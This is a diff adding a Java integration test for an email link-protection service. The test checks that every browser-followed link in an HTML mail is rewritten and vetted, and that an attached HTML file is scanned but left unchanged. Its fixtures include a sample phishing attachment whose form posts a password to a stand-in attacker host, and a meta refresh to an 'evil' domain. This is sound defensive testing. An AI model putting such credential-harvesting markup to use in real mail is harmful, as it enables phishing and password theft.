@@ -381,6 +381,74 @@ class LinkProtectionIT {
                 .contains("message=" + messageId + " host=shop.example verdict=CLEAN");
     }
 
+    /**
+     * Everything a reader's browser follows out of an HTML mail, not only a/area hrefs: a meta refresh, a
+     * scheme-relative href (read as https: as in a webmail page), an SVG xlink:href, a form action and a button
+     * formaction, a relative href under a scheme-relative base. Each arrives rewritten and is checked at click
+     * time; a form's POST is refused by the redirector. mailto:, cid:, the base element and script text are kept.
+     * An attached HTML file is scanned (its malicious form flags the mail) but arrives as it was sent.
+     */
+    @Test
+    void everyLinkABrowserFollowsIsRewrittenAndAnAttachedHtmlFileIsScannedNotChanged() throws Exception {
+        String html = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://www.evil.example/x\">"
+                + "<base href=\"//base.example/d/\"></head><body>\r\n"
+                + "<a href=\"//www.evil.example/path\">a</a>\r\n"
+                + "<svg><a xlink:href=\"http://svg.example/x\"><text>t</text></a></svg>\r\n"
+                + "<form action=\"http://form.example/post\" method=\"post\"><input name=\"p\">"
+                + "<button formaction=\"https://form.example/alt\">go</button></form>\r\n"
+                + "<a href=\"rel/path\">rel</a>\r\n"
+                + "<a href=\"mailto:help@shop.example\">m</a> <img src=\"cid:logo\">\r\n"
+                + "<script>var s = '<a href=\"http://script.example/\">';</script>\r\n</body></html>\r\n";
+        String attached = "<html><body><form action=\"https://login.evil.example/\" method=\"post\">"
+                + "<input name=\"password\" type=\"password\"></form></body></html>\r\n";
+        String messageId = "<followed-" + System.nanoTime() + "@sender.test>";
+        String message = "From: a@sender.test\r\nTo: " + DAVE + "\r\nSubject: Followed links\r\nMessage-ID: " + messageId
+                + "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
+                + "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html
+                + "--b\r\nContent-Type: text/html; charset=utf-8; name=\"invoice.html\"\r\n"
+                + "Content-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n" + attached + "--b--\r\n";
+        send("a@sender.test", DAVE, message);
+        String raw = JAMES.imap(DAVE, PASSWORD).awaitMessageContaining("Followed links", WAIT);
+
+        assertThat(SubmissionIT.headerLine(raw, "X-Tollgate-Links")).contains("verdict=malicious").contains("links=9")
+                .contains("rewritten=6").contains("malicious=3").contains("reasons=BLOCKLISTED").contains("skipped=1");
+        assertThat(SubmissionIT.headerLine(raw, "X-Tollgate-Link-Warning")).contains("suspicious-or-malicious-links");
+        MimeMultipart parts = (MimeMultipart) parse(raw).getContent();
+        String body = decoded((MimePart) parts.getBodyPart(0));
+        assertThat(decoded((MimePart) parts.getBodyPart(1)) + "\r\n").isEqualTo(attached);
+
+        Matcher tokens = Pattern.compile(Pattern.quote(PUBLIC_BASE) + "/r/[A-Za-z0-9_-]+").matcher(body);
+        List<String> links = new ArrayList<>();
+        while (tokens.find()) {
+            links.add(tokens.group());
+        }
+        assertThat(links).hasSize(6);
+        assertThat(body).contains("<meta http-equiv=\"refresh\" content=\"0;url=" + links.get(0) + "\">")
+                .contains("<a href=\"" + links.get(1) + "\">a</a>").contains("<a xlink:href=\"" + links.get(2) + "\">")
+                .contains("<form action=\"" + links.get(3) + "\" method=\"post\">")
+                .contains("<button formaction=\"" + links.get(4) + "\">").contains("<a href=\"" + links.get(5) + "\">rel</a>")
+                .contains("<base href=\"//base.example/d/\">").contains("<a href=\"mailto:help@shop.example\">")
+                .contains("<img src=\"cid:logo\">").contains("'<a href=\"http://script.example/\">'");
+
+        for (String evil : links.subList(0, 2)) {
+            HttpResponse<String> warned = click(evil);
+            assertThat(warned.statusCode()).isEqualTo(200);
+            assertThat(warned.headers().firstValue("Location")).isEmpty();
+            assertThat(warned.body()).contains("dangerous");
+        }
+        String[] expected = {"http://svg.example/x", "http://form.example/post", "https://form.example/alt",
+            "https://base.example/d/rel/path"};
+        for (int i = 0; i < expected.length; i++) {
+            HttpResponse<String> followed = click(links.get(2 + i));
+            assertThat(followed.statusCode()).as(expected[i]).isEqualTo(302);
+            assertThat(followed.headers().firstValue("Location")).hasValue(expected[i]);
+        }
+        // the form posts to the redirector, which serves GET only: the password never leaves
+        assertThat(request("POST", links.get(3)).statusCode()).isEqualTo(405);
+        assertThat(JAMES.logsOnceContaining("message=" + messageId + " host=www.evil.example verdict=MALICIOUS"))
+                .contains("message=" + messageId + " host=base.example verdict=CLEAN");
+    }
+
     private static LinkTokenSigner containerSigner(java.time.Clock clock) throws Exception {
         String keys = JAMES.copyFileFromContainer(KEY_FILE, in -> new String(in.readAllBytes(), StandardCharsets.UTF_8));
         String first = keys.lines().filter(l -> !l.isBlank() && !l.startsWith("#")).findFirst().orElseThrow();
